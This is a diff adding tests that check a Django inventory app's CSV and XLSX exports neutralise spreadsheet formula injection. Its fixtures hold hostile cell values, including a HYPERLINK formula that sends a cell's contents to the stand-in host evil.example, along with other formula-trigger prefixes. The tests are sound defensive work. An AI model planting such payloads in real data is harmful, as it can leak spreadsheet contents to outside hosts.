@@ -464,3 +464,56 @@ def test_a_workbook_that_unpacks_too_large_is_refused(monkeypatch):
     monkeypatch.setattr(importing, "MAX_XLSX_UNPACKED_BYTES", 1000)
     with pytest.raises(ImportFileError, match="décompressé"):
         read_table(xlsx_bytes(HEADER, rows(3)))
+
+
+# Formulas typed into the stock come out inert ------------------------------------------------------
+
+FORMULAS = {
+    "notes": '=HYPERLINK("https://evil.example/?x="&A1,"Voir")',
+    "model": "+1+1",
+    "cpu": "-1+1",
+    "os": "@SUM(A1:A9)",
+    "scrap_reason": "\t=1+1",
+}
+
+
+def _hostile_units(lot):
+    ComputerFactory(lot=lot, serial_number="EVIL1", **{k: v for k, v in FORMULAS.items() if k != "scrap_reason"})
+    ComputerFactory(lot=lot, serial_number="EVIL2", notes="\r=2+2", model="\uff1dCMD()")
+
+
+def test_the_csv_export_of_units_neutralises_formulas(lot, admin_client):
+    import csv
+
+    _hostile_units(lot)
+    data = export_all(admin_client)
+    records = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    by_serial = {r["numero_serie"]: r for r in records}
+    evil = by_serial["EVIL1"]
+    assert evil["notes"] == "'" + FORMULAS["notes"]
+    assert evil["modele"] == "'+1+1" and evil["processeur"] == "'-1+1" and evil["systeme"] == "'@SUM(A1:A9)"
+    assert by_serial["EVIL2"]["notes"] == "'\r=2+2" and by_serial["EVIL2"]["modele"] == "'\uff1dCMD()"
+    for record in records:
+        for value in record.values():
+            assert not value or value[0] not in "=+-@\t\r\uff1d", value
+
+
+def test_the_xlsx_export_of_units_holds_no_formula(lot, admin_client):
+    _hostile_units(lot)
+    url = reverse("admin:inventory_computer_export")
+    form = admin_client.get(url).context["form"]
+    fields = {name: "on" for name, field in form.fields.items() if field.widget.input_type == "checkbox"}
+    response = admin_client.post(url, {"format": "1", "resource": "0", **fields})
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    assert "'" + FORMULAS["notes"] in values and "'+1+1" in values and "'@SUM(A1:A9)" in values
+
+
+def test_a_neutralised_export_reimports_the_values_as_typed(lot, operator, admin_client):
+    ComputerFactory(lot=lot, serial_number="EVIL1", **{k: v for k, v in FORMULAS.items() if k != "scrap_reason"})
+    plan = plan_import(read_table(export_all(admin_client)))
+    assert not plan.has_errors, plan.errors + plan.file_errors
+    assert plan.count("skip") == 1  # nothing changes: "'+1+1" reads back as "+1+1"
